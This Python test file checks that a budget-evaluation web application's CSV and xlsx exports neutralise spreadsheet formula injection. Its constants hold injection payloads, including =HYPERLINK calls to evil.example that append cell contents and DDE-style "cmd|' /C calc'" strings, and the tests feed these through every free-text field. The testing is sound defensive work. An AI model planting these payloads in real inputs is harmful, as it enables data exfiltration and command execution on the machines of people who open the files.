"""No export turns typed text into a formula (CSV / formula injection).

Values a spreadsheet would evaluate (=HYPERLINK(…), +…, -…, @…, a leading tab) are written through every
free-text field — the names, goals and targets of an imported table, the texts a unit types, the opinions
and reasons of the reviewers — and then every export of the application is opened with openpyxl and the csv
module: no xlsx cell may be a formula (or an error code), no CSV text field may start with a character that
makes a spreadsheet evaluate it, and the amounts stay numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from fastapi.routing import iter_route_contexts
from openpyxl import load_workbook
from pydantic import BaseModel
from sqlmodel import select

from app.api import export
from app.models import Department, Project, SelfEvaluation, Unit
from tests import factories

YEAR = 2024
LEADS = ("=", "+", "-", "@", "\t", "\r")
# The payloads, one per field; each keeps a recognisable tail so the test can find it in every export.
DEPARTMENT = "@SUM(1+1)*cmd|' /C calc'!A0 部门"
UNIT = '=HYPERLINK("http://evil.example/?"&A1,"单位")'
PROJECT = '=HYPERLINK("http://evil.example/","点此查看项目")'
SECOND_PROJECT = "-3+3 第二个项目（自评表汇总页）"
PERIOD_GOAL = "-2+3+cmd|' /C calc'!A0 周期目标"
ANNUAL_GOAL = "+1+1 年度目标"
INDICATOR = "=1+1 三级指标"
QUALITATIVE = "@SUM(A1:A9) 定性指标"
QUALITATIVE_TARGET = "=提升监测能力"
GOAL_COMPLETION = '=HYPERLINK("http://evil.example/","完成情况")'
ACTUAL = "=1+1 有所提升"
REASON = "-1+1 偏差原因"
TAB_REASON = "\t=1+1 定性偏差原因"
SELF_SCORE_REASON = '=HYPERLINK("http://evil.example/","自评得分理由")'
OVERRIDE_REASON = "=1+1 调整理由"
OPINION = "+SUM(1) 退回意见"
FINAL_OPINION = "@cmd 终审意见"

HEADER = [
    "年度",
    "主管部门",
    "单位名称",
    "单位编码",
    "项目名称",
    "项目编码",
    "年度预算数（万元）",
    "实施周期目标",
    "年度目标",
    "一级指标",
    "二级指标",
    "三级指标",
    "实施周期指标值",
    "年度指标值",
    "分值",
]


def _table() -> bytes:
    common = [str(YEAR), DEPARTMENT, UNIT, "", PROJECT, "", "100", PERIOD_GOAL, ANNUAL_GOAL]
    rows = [
        [*common, "产出", "数量指标", INDICATOR, "≥12份", "≥12份", "60"],
        [*common, "效益", "社会效益指标", QUALITATIVE, QUALITATIVE_TARGET, QUALITATIVE_TARGET, "30"],
        [
            str(YEAR),
            DEPARTMENT,
            UNIT,
            "",
            SECOND_PROJECT,
            "",
            "20",
            "",
            "",
            "产出",
            "数量指标",
            "报告",
            "≥1份",
            "≥1份",
            "90",
        ],
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *rows])
    return buffer.getvalue().encode("utf-8")


def _as(client, username: str):
    client.cookies.clear()
    factories.login(client, username)
    return client


@pytest.fixture
def world(client, session):
    """The table imported by the finance bureau, filled by the unit, returned, resubmitted and approved."""
    factories.user(session, "czj", "finance")
    _as(client, "czj")
    response = client.post(
        "/api/v1/imports", data={"year": str(YEAR)}, files={"file": ("evil.csv", _table(), "text/csv")}
    )
    assert response.status_code == 200, response.text
    unit = session.exec(select(Unit)).one()
    dept = session.exec(select(Department)).one()
    assert (unit.name, dept.name) == (UNIT, DEPARTMENT)
    factories.user(session, "dw", "unit", unit_row=unit)
    factories.user(session, "zgbm", "department", dept=dept)
    eid = session.exec(
        select(SelfEvaluation.id).join(Project, Project.id == SelfEvaluation.project_id).where(Project.name == PROJECT)
    ).one()

    _as(client, "dw")
    body = client.get(f"/api/v1/self-evaluations/{eid}").json()
    ids = {i["name"]: i["id"] for i in body["indicators"]}
    saved = client.put(
        f"/api/v1/self-evaluations/{eid}",
        json={
            "version": body["version"],
            "spent": "90",
            "goal_completion": GOAL_COMPLETION,
            "results": [
                {
                    "indicator_id": ids[INDICATOR],
                    "actual": "10份",
                    "deviation_reason": REASON,
                    "self_score": "45",
                    "self_score_reason": SELF_SCORE_REASON,
                },
                {
                    "indicator_id": ids[QUALITATIVE],
                    "qualitative_level": "partial",
                    "actual": ACTUAL,
                    "deviation_reason": TAB_REASON,
                },
            ],
        },
    )
    assert saved.status_code == 200, saved.text
    submitted = client.post(f"/api/v1/self-evaluations/{eid}/submit")
    assert submitted.status_code == 200, submitted.text
    _as(client, "zgbm")
    returned = client.post(
        f"/api/v1/self-evaluations/{eid}/return",
        json={
            "opinion": OPINION,
            "overrides": [{"indicator_id": ids[INDICATOR], "score": "40", "reason": OVERRIDE_REASON}],
        },
    )
    assert returned.status_code == 200, returned.text
    _as(client, "dw")
    assert client.post(f"/api/v1/self-evaluations/{eid}/submit").status_code == 200
    _as(client, "zgbm")
    assert client.post(f"/api/v1/self-evaluations/{eid}/approve", json={"opinion": FINAL_OPINION}).status_code == 200
    return eid


API_EXPORTS = [
    "/api/v1/units",
    "/api/v1/projects",
    "/api/v1/indicators",
    f"/api/v1/stats/units?year={YEAR}",
    f"/api/v1/stats/departments?year={YEAR}",
    "/api/v1/audit",  # the audit holds every text above, as before/after and opinions
    f"/api/v1/review-queue?year={YEAR}&status=all",  # the queue, also offered as a download on its page
]
PAGE_EXPORTS = [
    f"/evaluations/export.xlsx?year={YEAR}",
    "/evaluations/{id}/export.xlsx",
    "/admin/imports/template.xlsx",
    # 离线填报: the fill-in workbook (its hidden map of cells included), from the pages and the API
    f"/evaluations/offline.xlsx?year={YEAR}",
    "/evaluations/{id}/offline.xlsx",
    f"/api/v1/self-evaluations/offline.xlsx?year={YEAR}",
    "/api/v1/self-evaluations/{id}/offline.xlsx",
]
# a special fund's allocation tree (the page's and the API's download), checked in test_fund_tree_exports
FUND_EXPORTS = ["/funds/{fund_id}/tree.xlsx", "/api/v1/funds/{fund_id}/tree.xlsx"]
# the monitoring overview's download (the texts a unit types in a round), checked in test_monitoring_export
MONITORING_EXPORTS = ["/monitoring/export.xlsx"]
FUND = '=HYPERLINK("http://evil.example/","专项资金")'
DIVISION = "@SUM(1+1) 处室"
RECIPIENT = "-1+1 用款单位"
ARRIVAL = "=1+1 2019年4月"


def test_the_lists_above_are_every_export_of_the_application(app):
    """A new export route fails here until it is added to the lists this file checks."""
    api, pages = set(), set()
    # an API export is a route documented with a `format` query parameter (lists declare it in
    # their query model, so the OpenAPI document is where it shows)
    for path, operations in app.openapi()["paths"].items():
        for operation in operations.values():
            if any(p.get("in") == "query" and p["name"] == "format" for p in operation.get("parameters", [])):
                api.add(path)
    for context in iter_route_contexts(app.routes):
        if context.path_format.endswith((".xlsx", ".csv")):
            pages.add(context.path_format.replace("{evaluation_id}", "{id}"))
    assert api == {url.split("?")[0] for url in API_EXPORTS}
    assert pages == {url.split("?")[0] for url in PAGE_EXPORTS + FUND_EXPORTS + MONITORING_EXPORTS}


def _xlsx_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _check_xlsx(content: bytes, where: str) -> set[str]:
    """Every cell of the workbook is data, never a formula or an error; the texts found."""
    cells = _xlsx_cells(content)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type in ("f", "e")]
    assert not formulas, f"{where}: formulas in {formulas}"
    return {c.value for c in cells if isinstance(c.value, str)}


def _check_csv(content: bytes, numeric: set[str], where: str) -> list[dict[str, str]]:
    """No text field starts with = + - @ tab CR; the columns in `numeric` hold plain numbers."""
    header, *rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    records = [dict(zip(header, row, strict=True)) for row in rows]
    for record in records:
        for title, value in record.items():
            if title in numeric and value:
                Decimal(value)  # a number, written as one (a negative amount is not neutralised)
            else:
                assert not value.startswith(LEADS), f"{where}: {title} = {value!r}"
    return records


def _numeric_titles(url: str) -> set[str]:
    listing = {
        "/api/v1/units": "UnitPublic",
        "/api/v1/projects": "ProjectPublic",
        "/api/v1/indicators": "IndicatorPublic",
        "/api/v1/stats/units": "UnitStatsPublic",
        "/api/v1/stats/departments": "DepartmentStatsPublic",
        "/api/v1/audit": "AuditEventPublic",
        "/api/v1/review-queue": "QueueItemPublic",
    }[url.split("?")[0]]
    from app.api import models, reviews

    model: type[BaseModel] = getattr(models, listing, None) or getattr(reviews, listing)
    return {c.title for c in export.columns(model) if c.decimal or c.path[-1] in ("id",) or c.path[-1].endswith("_id")}


def test_no_export_holds_a_formula(client, world):
    eid = world
    _as(client, "czj")
    texts: set[str] = set()
    neutralised: set[str] = set()
    for url in API_EXPORTS:
        sep = "&" if "?" in url else "?"
        xlsx = client.get(f"{url}{sep}format=xlsx")
        assert xlsx.status_code == 200, url
        texts |= _check_xlsx(xlsx.content, url)
        response = client.get(f"{url}{sep}format=csv")
        assert response.status_code == 200, url
        for record in _check_csv(response.content, _numeric_titles(url), url):
            neutralised |= set(record.values())
    _as(client, "dw")
    for url in PAGE_EXPORTS:
        response = client.get(url.replace("{id}", str(eid)))
        assert response.status_code == 200, url
        texts |= _check_xlsx(response.content, url)
    # The payloads did reach the exports: as the same text in xlsx, behind a quote in CSV.
    typed = [ANNUAL_GOAL, INDICATOR, QUALITATIVE, ACTUAL, REASON, SELF_SCORE_REASON]
    for payload in [DEPARTMENT, UNIT, PROJECT, SECOND_PROJECT, *typed]:
        assert any(payload in text for text in texts), payload
    for payload in [DEPARTMENT, UNIT, PROJECT, SECOND_PROJECT, INDICATOR, QUALITATIVE, ACTUAL]:
        assert "'" + payload in neutralised, payload


def test_amounts_stay_numbers_in_both_formats(client, world):
    _as(client, "czj")
    xlsx = client.get(f"/api/v1/projects?year={YEAR}&format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert row["全年预算数（万元）"].data_type == "n" and Decimal(str(row["全年预算数（万元）"].value)) == 100
    assert row["项目名称"].data_type == "s" and row["项目名称"].value == PROJECT
    records = list(csv.DictReader(io.StringIO(client.get(f"/api/v1/projects?year={YEAR}&format=csv").text)))
    assert records[0]["全年执行数（万元）"] == "90.00" and records[0]["项目名称"] == "'" + PROJECT


def test_a_negative_amount_is_a_number_and_a_negative_text_is_neutralised():
    from app.api.models import F

    class Row(BaseModel):
        id: int = F("ID", "编号", 1)
        note: str | None = F("说明", "说明", "x")
        amount: str | None = F("金额（万元）", "金额", "-1.50", decimal=True)

    rows = [Row(id=1, note="-1.50", amount="-1.50"), Row(id=2, note="\t=1+1", amount="-0.000001")]
    cols = export.columns(Row)
    text = b"".join(export.csv_stream(iter(rows), cols)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1:] == [["1", "'-1.50", "-1.50"], ["2", "'\t=1+1", "-0.000001"]]
    book = load_workbook(io.BytesIO(b"".join(export.xlsx_stream(iter(rows), cols, "表"))))
    first, second = list(book.active.iter_rows(min_row=2))
    assert [c.data_type for c in first] == ["n", "s", "n"] and first[2].value == pytest.approx(-1.5)
    assert second[1].data_type == "s" and second[1].value == "\t=1+1"


def test_fund_tree_exports_hold_no_formula(client, session):
    """The allocation tree's names and dates, typed as formulas, come back as text in both downloads."""
    dept = factories.department(session, "广东省工业和信息化厅")
    factories.user(session, "czj", "finance")
    _as(client, "czj")
    created = client.post("/api/v1/funds", json={"year": YEAR, "name": FUND, "total": "100", "department_id": dept.id})
    assert created.status_code == 201, created.text
    fid = created.json()["id"]
    division = client.post(
        f"/api/v1/funds/{fid}/nodes", json={"kind": "division", "name": DIVISION, "allocated": "100"}
    )
    assert division.status_code == 201, division.text
    recipient = client.post(
        f"/api/v1/funds/{fid}/nodes",
        json={
            "kind": "recipient",
            "name": RECIPIENT,
            "parent_id": division.json()["id"],
            "allocated": "100",
            "spent": "95.5",
            "arrival_dates": ARRIVAL,
        },
    )
    assert recipient.status_code == 201, recipient.text
    texts: set[str] = set()
    for url in FUND_EXPORTS:
        response = client.get(url.replace("{fund_id}", str(fid)))
        assert response.status_code == 200, url
        texts |= _check_xlsx(response.content, url)
    for payload in (DIVISION, RECIPIENT, ARRIVAL):
        assert any(payload in text for text in texts), payload


NASTY = [
    "=1+1",
    "+SUM(1)",
    "-1.50",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    " =1+1",
    "＝全角等号",
    "",
    "=",
    '"=1+1"',
    "a\n=1+1",
    "普通文字",
    "–1 en dash",
    "\n=1+1",
    "==",
]


def test_the_sql_neutralising_equals_the_python_one(session):
    """The full-year CSV is written by PostgreSQL with the neutralising in the query (services.csv_copy):
    it must say exactly what spreadsheet.csv_text says, on every awkward value."""
    import sqlalchemy as sa

    from app.services import csv_copy, spreadsheet

    for value in NASTY:
        in_sql = session.execute(sa.select(csv_copy.neutral(sa.literal(value, sa.Text)))).scalar_one()
        assert in_sql == spreadsheet.csv_text(value), repr(value)
    # and a NULL is an empty text cell, as export._cell writes None
    assert session.execute(sa.select(csv_copy.text(sa.null()).expr)).scalar_one() == ""


def test_the_indicator_csv_says_what_the_list_says(client, world):
    """The indicator export (on PostgreSQL written by COPY, services.csv_copy) holds, cell for cell, what
    the Python export writes for the JSON list's rows: scores at their precision, the effective score,
    是/否, the flags, the neutralised texts."""
    from app.api.models import IndicatorPublic

    _as(client, "czj")
    items = client.get(f"/api/v1/indicators?year={YEAR}&limit=1000").json()["items"]
    assert len(items) == 3 and any(i["score_override"] for i in items) and any(i["flags"] for i in items)
    cols = export.columns(IndicatorPublic)
    want = b"".join(export.csv_stream(iter(IndicatorPublic(**i) for i in items), cols)).decode("utf-8-sig")
    response = client.get(f"/api/v1/indicators?year={YEAR}&format=csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    got = response.content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(got))) == list(csv.reader(io.StringIO(want)))
    # every text cell quoted and every number bare, as the Python writer does
    assert [line.split(",")[0] for line in got.splitlines()[1:]] == [str(i["id"]) for i in items]
    assert all(line.split(",")[3].startswith('"') for line in got.splitlines()[1:])


def test_monitoring_export_holds_no_formula(client, session):
    """The texts a unit types in a monitoring round (完成值, 年末预计值, 偏差原因, 纠偏措施) and the names."""
    from tests.services import monitoring_data

    w = monitoring_data.planted(session, fill=False)
    project = w["projects"]["业务培训"]
    ind = monitoring_data.indicator_of(session, project.id)
    from app.services import monitoring

    entries = {ind.id: {"reason": REASON, "measure": OVERRIDE_REASON}}
    monitoring.save(session=session, principal=w["unit"], project_id=project.id, version=1, entries=entries)
    ind.name = INDICATOR
    project.name = PROJECT
    session.add_all([ind, project])
    session.commit()
    _as(client, "czj")
    for url in MONITORING_EXPORTS:
        response = client.get(f"{url}?year={monitoring_data.YEAR}")
        assert response.status_code == 200, url
        texts = _check_xlsx(response.content, url)
        for payload in (REASON, OVERRIDE_REASON, INDICATOR, PROJECT):
            assert payload in texts, payload
